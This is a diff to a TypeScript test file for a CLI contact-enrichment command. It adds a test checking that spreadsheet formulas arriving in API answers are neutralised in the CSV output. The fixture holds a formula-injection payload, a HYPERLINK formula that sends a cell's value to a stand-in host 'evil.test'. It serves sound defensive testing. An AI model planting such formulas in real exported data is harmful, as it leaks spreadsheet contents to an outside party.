@@ -7,12 +7,24 @@ import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { parseCsv } from '../../scripts/lib/csv';
-import { readOutputs } from '../../scripts/lib/sheet-outputs';
+import { outputRows, readOutputs } from '../../scripts/lib/sheet-outputs';
 import { sampleContacts } from '../../dev/emulator/sample';
 import { contactRows, engineKit, people, SEED } from './support/engine';
 
 const SECRET = 'sk-cli-Secret-0042';
-const kit = engineKit({ keys: [SECRET] });
+/** Someone the API answers about with strings that would run as formulas in a spreadsheet. */
+const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
+const HOSTILE = {
+  first_name: 'Mallory',
+  last_name: 'Formula',
+  company_domain: 'evil-formula.test',
+  company_name: 'Evil Formula',
+  work_email: 'mallory@evil-formula.test',
+  work_email_status: HOSTILE_STATUS,
+  phone: '+33 6 12 34 56 78',
+  country_code: 'FR',
+};
+const kit = engineKit({ keys: [SECRET], data: { people: [HOSTILE] } });
 const ROOT = resolve(__dirname, '../..');
 
 interface CliResult {
@@ -84,6 +96,26 @@ describe('npm run enrich', () => {
       readFileSync(stateFile, 'utf8'),
     ])
       expect(seen).not.toContain(SECRET);
+  });
+
+  it("neutralises formulas in the API's answers and keeps the user's own cells exactly", async () => {
+    const header = ['First name', 'Last name', 'Company', 'Note'];
+    const mine = ['Mallory', 'Formula', 'Evil Formula', '=SUM(1)'];
+    const file = csvFile('hostile.csv', [header, mine].map((row) => row.join(',')).join('\n'));
+    const out = join(file, '..', 'out.csv');
+    const result = await cli([file, '--out', out, ...api()]);
+    expect(result).toMatchObject({ code: 0 });
+
+    const text = readFileSync(out, 'utf8');
+    const [written] = parseCsv(text).slice(1);
+    expect(written!.slice(0, 4)).toEqual(mine);
+    const outputs = outputRows(parseCsv(text), 'enrich')[0]!;
+    expect(outputs).toMatchObject({
+      workEmail: HOSTILE.work_email,
+      workEmailStatus: `'${HOSTILE_STATUS}`,
+      phone: "'+33 6 12 34 56 78",
+    });
+    expect(text).toContain('=SUM(1),');
   });
 
   it('runs a reverse lookup into --out with its own --state', async () => {
